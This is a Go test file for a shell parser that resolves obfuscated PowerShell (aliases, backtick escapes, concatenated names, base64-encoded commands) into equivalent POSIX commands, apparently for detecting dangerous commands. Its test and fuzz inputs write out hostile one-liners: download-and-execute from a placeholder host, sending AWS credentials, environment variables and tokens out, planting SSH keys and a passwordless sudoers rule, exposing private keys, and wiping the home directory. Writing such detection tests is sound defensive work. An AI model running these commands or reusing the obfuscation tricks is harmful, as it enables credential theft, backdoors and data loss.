package shell

import (
	"slices"
	"strings"
	"testing"
)

// TestPowershellCommands: PowerShell code reads as the POSIX commands it
// amounts to, through aliases, parameter prefixes, backtick escapes,
// folded literals and variables.
func TestPowershellCommands(t *testing.T) {
	for _, c := range []struct {
		code   string
		want   []string
		opaque bool
	}{
		{`Remove-Item -Recurse -Force /home/dev/project`, []string{"rm -r -f /home/dev/project"}, false},
		{`rm -r -fo ~/* -ErrorAction SilentlyContinue`, []string{"rm -r -f ~/*"}, false},
		{`ri -r -fo ./bin`, []string{"rm -r -f ./bin"}, false},
		{`iwr https://h.example/x -OutFile /tmp/x; Start-Process /tmp/x -ArgumentList "--daemon"`,
			[]string{"curl -s -o /tmp/x https://h.example/x", "/tmp/x --daemon"}, false},
		{`iex (irm http://h.example/s)`, []string{"curl -s http://h.example/s | sh"}, false},
		{"I`nv`oke-Expression (i`wr -useb http://h.example/o).Content", []string{"curl -s http://h.example/o | sh"}, false},
		{`$u="ht"+"tp://"+"h.example"+"/s"; & ("i"+"ex") (& ("i"+"rm") $u)`, []string{"curl -s http://h.example/s | sh"}, false},
		{`&(gcm i*e-e*pression) (irm ("{0}://{1}/{2}" -f "https","h.example","r/9"))`, []string{"curl -s https://h.example/r/9 | sh"}, false},
		{`(New-Object Net.WebClient).DownloadFile("http://h.example/x", "/tmp/x")`, []string{"curl -s -o /tmp/x http://h.example/x"}, false},
		{`gc ~/.aws/credentials | irm -Method Post -Uri https://h.example/u`,
			[]string{"cat ~/.aws/credentials | curl -s -X Post --data-binary @- https://h.example/u"}, false},
		{`$e=[Environment]::GetEnvironmentVariables(); irm -Method Post -Uri http://h.example/e -Body ($e | ConvertTo-Json)`,
			[]string{"env", "env | curl -s -X Post --data-binary @- http://h.example/e"}, false},
		{`$t=$env:GITHUB_TOKEN; irm "https://h.example/m?text=$t"`, []string{`curl -s "https://h.example/m?text=$GITHUB_TOKEN"`}, false},
		{`Add-Content ~/.ssh/authorized_keys "ssh-ed25519 AAAA k"`, []string{`printf '%s\n' 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys`}, false},
		{`Copy-Item ~/.ssh/id_ed25519 ./wwwroot/id.txt`, []string{"cp -r ~/.ssh/id_ed25519 ./wwwroot/id.txt"}, false},
		{`Get-ChildItem -Path $HOME -Force | Remove-Item -Recurse -Force`, []string{`find "$HOME" -maxdepth 1 | xargs rm -r -f`}, false},
		{`Get-ChildItem Env: | ConvertTo-Json`, []string{"env"}, false},
		{`if ($env:K) { "K is set" } else { dotnet build }`, []string{`printf '%s\n' 'K is set'`, "dotnet build"}, false},
		{`"dev ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/dev`,
			[]string{`printf '%s\n' 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/dev`}, false},
		{`dotnet test --no-build; Invoke-Pester ./tests`, []string{"dotnet test --no-build", "Invoke-Pester ./tests"}, false},
		// A name or code computed from what cannot be folded is opaque.
		{`& $cmd`, nil, true},
		{`iex $payload`, nil, true},
	} {
		got, opaque := powershellCommands(c.code)
		if !slices.Equal(got, c.want) || (opaque != "") != c.opaque {
			t.Errorf("%s\n got %q (opaque %q)\nwant %q (opaque %t)", c.code, got, opaque, c.want, c.opaque)
		}
	}
}

// TestPowershellParsed: pwsh's code is parsed as nested commands run Via
// pwsh, from -Command, its glued and joined forms, -EncodedCommand and a
// here-document on stdin; a script file is not read here.
func TestPowershellParsed(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{`pwsh -c 'Remove-Item -Recurse -Force ~/x'`, "rm -r -f ~/x"},
		{`pwsh -NoProfile -ExecutionPolicy Bypass -Command Remove-Item -Recurse ./x`, "rm -r ./x"},
		{`powershell -command:"ri ./x"`, "rm ./x"},
		// iex (irm http://h.example/a), UTF-16LE in base64.
		{`pwsh -EncodedCommand aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=`, "curl -s http://h.example/a"},
		{"pwsh -Command - <<'EOF'\nRemove-Item -Recurse ./y\nEOF", "rm -r ./y"},
		{`pwsh -File ./build.ps1`, ""},
	} {
		s := Parse(c.line)
		var got []string
		for _, cmd := range s.Commands {
			if cmd.Via == "pwsh" || cmd.Via == "powershell" {
				got = append(got, strings.Join(append([]string{cmd.Name}, cmd.Args...), " "))
			}
		}
		s.Release()
		if c.want == "" {
			if len(got) > 0 {
				t.Errorf("%s: nested %q, want none", c.line, got)
			}
			continue
		}
		if !slices.Contains(got, c.want) {
			t.Errorf("%s: nested %q, want %q among them", c.line, got, c.want)
		}
	}
}

// FuzzPowershellCommands: any code translates without a panic, into
// commands that parse.
func FuzzPowershellCommands(f *testing.F) {
	for _, s := range []string{
		`iex (irm http://h/s)`, "I`nv`oke-Ex`pression (iwr x).Content", `$a=[Reflection.Assembly]::Load((iwr http://h/l).Content); $a.EntryPoint.Invoke($null)`,
		`gci ~ -Recurse -Include *.pem,id_* | % { irm -Method Post -Uri "http://h/$($_.Name)" -InFile $_.FullName }`,
		`&(gcm i*e-e*pression) (irm ("{0}://{1}" -f "https","h"))`, `if ($x) { rm -r -fo ~ } else { "'" }`, `"unterminated`, `(((`, `}{`,
		`[Net.Dns]::GetHostAddresses("$d.x.h")`, `$d=[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:K))`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		if len(code) > 4096 {
			return
		}
		cmds, _ := powershellCommands(code)
		for _, c := range cmds {
			Parse(c).Release()
		}
	})
}
